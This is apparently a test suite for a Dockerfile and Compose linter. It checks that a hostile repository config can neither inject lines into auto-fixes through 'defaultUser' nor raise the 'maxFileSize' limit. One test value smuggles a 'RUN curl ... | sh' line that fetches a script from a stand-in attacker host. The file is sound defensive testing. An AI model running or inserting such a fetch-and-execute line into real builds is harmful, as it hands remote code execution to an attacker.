// The linted repository writes its own .shipshape.yaml, so config values that bound the work or
// are pasted into fixes are validated: a hostile config cannot lift the size bound or make a fix
// insert lines of its choosing.
import { strict as assert } from 'node:assert';
import { spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { lint, mergeConfig, parseConfig } from '../../server/src/engine';
import { defaultUserProblem, MAX_FILE_SIZE_CEILING } from '../../server/src/engine/config';
import { ensureFreshDist } from '../setup/fresh-dist';

const INJECTED_USER = '10001\nRUN curl -s http://attacker.example/x | sh\nUSER 10001';
const CLI = path.join(__dirname, '../../dist/cli.js');

function fixTexts(text: string, kind: 'dockerfile' | 'compose', configText: string): string[] {
  const config = mergeConfig(parseConfig(configText).config);
  return lint({ text, kind }, config)
    .findings.filter((f) => f.ruleId === 'root-user')
    .flatMap((f) => f.fixes.flatMap((fix) => [fix.title, ...fix.edits.map((e) => e.newText)]));
}

describe('config bounds: defaultUser', () => {
  const hostile = `defaultUser: ${JSON.stringify(INJECTED_USER)}\n`;

  it('rejects a defaultUser that would inject a RUN line, and keeps the default', () => {
    const { config, problems } = parseConfig(hostile);
    assert.equal(config.defaultUser, undefined);
    assert.equal(problems.length, 1);
    assert.match(problems[0]!.message, /defaultUser/);
  });

  it('never lets the injected text reach a Dockerfile or Compose fix', () => {
    const dockerfile = fixTexts('FROM node:22-slim\nCMD ["node"]\n', 'dockerfile', hostile);
    const compose = fixTexts('services:\n  web:\n    image: nginx:1.27\n    user: root\n', 'compose', hostile);
    for (const texts of [dockerfile, compose]) {
      assert.ok(texts.length > 0, 'the root-user fix is still offered');
      assert.ok(
        texts.every((t) => !t.includes('attacker') && !t.includes('RUN curl')),
        texts.join('\n'),
      );
      assert.ok(texts.some((t) => t.includes('10001:10001')));
    }
  });

  it('falls back to the default when a caller builds the config without parsing it', () => {
    assert.equal(mergeConfig({ defaultUser: INJECTED_USER }).defaultUser, '10001:10001');
    assert.equal(mergeConfig({ defaultUser: 'app:app' }).defaultUser, 'app:app');
  });

  it('accepts user names and UIDs with an optional group or GID, nothing else', () => {
    for (const ok of ['10001:10001', '1000', 'app', 'app:app', 'node:1000', '_svc.user-1', 'nobody']) {
      assert.equal(defaultUserProblem(ok), undefined, ok);
    }
    for (const bad of [
      '',
      'root',
      '0',
      '0:0',
      'a b',
      '$USER',
      '${UID}',
      'app"',
      "app'",
      'app\n',
      'app\r',
      'a:b:c',
      ':1000',
      '1000:',
      'app$',
      '-u',
      'x'.repeat(40),
    ]) {
      assert.ok(defaultUserProblem(bad), JSON.stringify(bad));
    }
    assert.equal(parseConfig('defaultUser: 1000\n').config.defaultUser, '1000');
    assert.equal(parseConfig('defaultUser: [a]\n').problems.length, 1);
  });
});

describe('config bounds: maxFileSize', () => {
  it('caps maxFileSize at the ceiling and reports the larger value as a config problem', () => {
    const { config, problems } = parseConfig('maxFileSize: 1000000000\n');
    assert.equal(config.maxFileSize, MAX_FILE_SIZE_CEILING);
    assert.equal(problems.length, 1);
    assert.match(problems[0]!.message, /maxFileSize.*ceiling/);
    assert.equal(mergeConfig({ maxFileSize: 1_000_000_000 }).maxFileSize, MAX_FILE_SIZE_CEILING);
    assert.equal(mergeConfig({ maxFileSize: Infinity }).maxFileSize, MAX_FILE_SIZE_CEILING);
    assert.equal(parseConfig('maxFileSize: .inf\n').config.maxFileSize, MAX_FILE_SIZE_CEILING);
    assert.equal(parseConfig('maxFileSize: 4000000\n').config.maxFileSize, 4_000_000);
    assert.equal(parseConfig('maxFileSize: .nan\n').problems.length, 1);
  });

  it('skips a file over the ceiling even when the config asks for 1 GB', () => {
    const big = 'FROM alpine:3.20\n' + 'RUN echo 0123456789012345678901234567890123456789\n'.repeat(180_000);
    assert.ok(big.length > MAX_FILE_SIZE_CEILING);
    const config = mergeConfig(parseConfig('maxFileSize: 1000000000\n').config);
    assert.match(lint({ text: big, kind: 'dockerfile' }, config).skipped ?? '', /limit \(maxFileSize\)/);
  });

  it('the CLI reports the over-large maxFileSize and still skips the file', function () {
    ensureFreshDist();
    this.timeout(30_000);
    const root = fs.mkdtempSync(path.join(os.tmpdir(), 'shipshape-config-bounds-'));
    try {
      fs.mkdirSync(path.join(root, '.git'));
      fs.writeFileSync(path.join(root, '.shipshape.yaml'), 'maxFileSize: 1000000000\n');
      fs.writeFileSync(
        path.join(root, 'Dockerfile'),
        'FROM alpine:3.20\n' + 'RUN echo 0123456789012345678901234567890123456789\n'.repeat(180_000),
      );
      const result = spawnSync(process.execPath, [CLI, 'lint', '--format', 'json', '.'], { cwd: root, encoding: 'utf8' });
      assert.match(result.stderr + result.stdout, /maxFileSize/);
      const report = JSON.parse(result.stdout) as { filePath: string; skipped?: string }[];
      const dockerfile = report.find((f) => f.filePath.endsWith('Dockerfile'));
      assert.match(dockerfile?.skipped ?? '', /8\.0 MB limit/);
    } finally {
      fs.rmSync(root, { recursive: true, force: true });
    }
  });
});
